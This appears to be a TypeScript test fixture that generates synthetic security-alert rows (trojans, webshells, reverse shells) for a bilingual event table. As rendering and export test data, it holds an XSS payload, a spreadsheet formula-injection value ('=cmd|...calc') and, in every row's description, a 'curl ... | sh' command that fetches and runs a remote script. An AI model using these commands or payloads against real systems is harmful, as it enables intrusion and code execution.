// Generated events, each made from its number alone, so that a million of them cost no memory.
import type { EventRow, Language } from "../../src/wire/types";
import { LEVELS, RESULT_CODES, STATUSES, TYPES } from "./words";

const NAMES: [string, string][] = [
  ["XorDDoS木马", "XorDDoS trojan"],
  ["发现后门(Webshell)文件", "Webshell file found"],
  ["Linux计划任务执行异常指令", "Suspicious command in a cron job"],
  ["ECS非常用登录地", "Login from an unusual location"],
  ["挖矿程序", "Mining program"],
  ["反弹Shell", "Reverse shell"],
  ["访问恶意域名", "Access to a malicious domain"],
  ["<img src=x onerror=alert(1)>伪装的进程名", "<img src=x onerror=alert(1)> as a process name"],
  ["可疑的PowerShell指令 =cmd|' /C calc'!A0", "Suspicious PowerShell =cmd|' /C calc'!A0"],
  ["K8s匿名用户访问敏感接口", "Anonymous access to a sensitive Kubernetes API"],
  ["容器逃逸：挂载宿主机根目录", "Container escape: host root mounted"],
  ["暴力破解成功", "Brute-force attack succeeded"],
];
const ASSETS = [
  "web-prod-01",
  "web-prod-02",
  "订单数据库-主",
  "k8s-node-huadong-07",
  "bastion",
  "ai-gpu-训练-03",
  "支付网关",
  "nginx-edge-very-long-instance-name-for-truncation-tests-0001",
];
const ANCHOR = Date.UTC(2026, 10, 22, 2, 14, 5);

/** A number that looks random and is always the same for the same two numbers. */
export function mix(row: number, salt: number): number {
  let value = Math.imul(row + 0x9e3779b9, 0x85ebca6b) ^ Math.imul(salt + 1, 0xc2b2ae35);
  value = Math.imul(value ^ (value >>> 15), 0x2c1b3c6d);
  value = Math.imul(value ^ (value >>> 12), 0x297a2d39);
  return (value ^ (value >>> 15)) >>> 0;
}

export const levelOf = (row: number) => LEVELS[[0, 1, 1, 2, 2, 2][mix(row, 1) % 6]!]!;
export const statusOf = (row: number) => STATUSES[[0, 0, 0, 1, 2, 3, 5, 6, 9][mix(row, 2) % 9]!]!;
export const typeOf = (row: number) => TYPES[mix(row, 3) % TYPES.length]!;
export const nameOf = (row: number) => NAMES[mix(row, 4) % NAMES.length]!;
export const assetOf = (row: number) => ASSETS[mix(row, 5) % ASSETS.length]!;
export const timeOf = (row: number) => ANCHOR - row * 41_000 - (mix(row, 6) % 40_000);
/** What the last sync found of a row; "" for nothing. */
export const markOf = (row: number) =>
  row < 12 ? "new" : row % 97 === 5 ? "changed" : row % 211 === 20 ? "gone" : "";
export const idOf = (row: number) => String(9_007_199_254_740_993n + BigInt(1_000_000 - row));
export const cloudText = (time: number) =>
  new Date(time + 8 * 3_600_000).toISOString().slice(0, 19).replace("T", " ");

/** The moment of a text in the cloud's zone. */
export const momentOf = (text: string) => Date.parse(`${text.replace(" ", "T")}+08:00`);

const privateIp = (row: number) => `172.16.${mix(row, 7) % 256}.${mix(row, 8) % 254}`;
export const publicIp = (row: number) => `203.0.113.${mix(row, 9) % 254}`;

export function cell(row: number, column: string, language: Language): string {
  const pick = (pair: { zh: string; en: string }) => pair[language];
  const [zh, en] = nameOf(row);
  switch (column) {
    case "id":
      return idOf(row);
    case "level":
      return pick(levelOf(row));
    case "status":
      return pick(statusOf(row));
    case "alarmEventType":
      return pick(typeOf(row));
    case "eventSubType":
    case "name":
      return language === "zh" ? zh : en;
    case "instanceName":
      return assetOf(row);
    case "ip":
      return `${publicIp(row)}, ${privateIp(row)}`;
    case "internetIp":
      return publicIp(row);
    case "intranetIp":
      return privateIp(row);
    case "lastTime":
    case "occurrenceTime":
      return cloudText(timeOf(row));
    case "operateTime":
      return statusOf(row).value === "1" ? "" : cloudText(timeOf(row) + 3_600_000);
    case "operateErrorCode":
      return statusOf(row).value === "1" ? "" : RESULT_CODES[mix(row, 10) % RESULT_CODES.length]!.value;
    case "desc":
    case "eventDetail":
      return language === "zh"
        ? "路径: /etc/crontab; 命令: curl -s http://203.0.113.9/x.sh | sh"
        : "path: /etc/crontab; command: curl -s http://203.0.113.9/x.sh | sh";
    case "groupName":
      return ["生产", "测试", "default"][mix(row, 11) % 3]!;
    case "saleVersion":
      return String(mix(row, 12) % 3);
    default:
      return "";
  }
}

export function rowOf(row: number, columns: string[], language: Language): EventRow {
  return {
    key: { id: idOf(row), account: "1960721413480001" },
    level: levelOf(row).value,
    status: Number(statusOf(row).value),
    reviewed: false,
    cells: columns.map((column) => cell(row, column, language)),
  };
}

export function rowNumber(id: string): number {
  return 1_000_000 - Number(BigInt(id) - 9_007_199_254_740_993n);
}
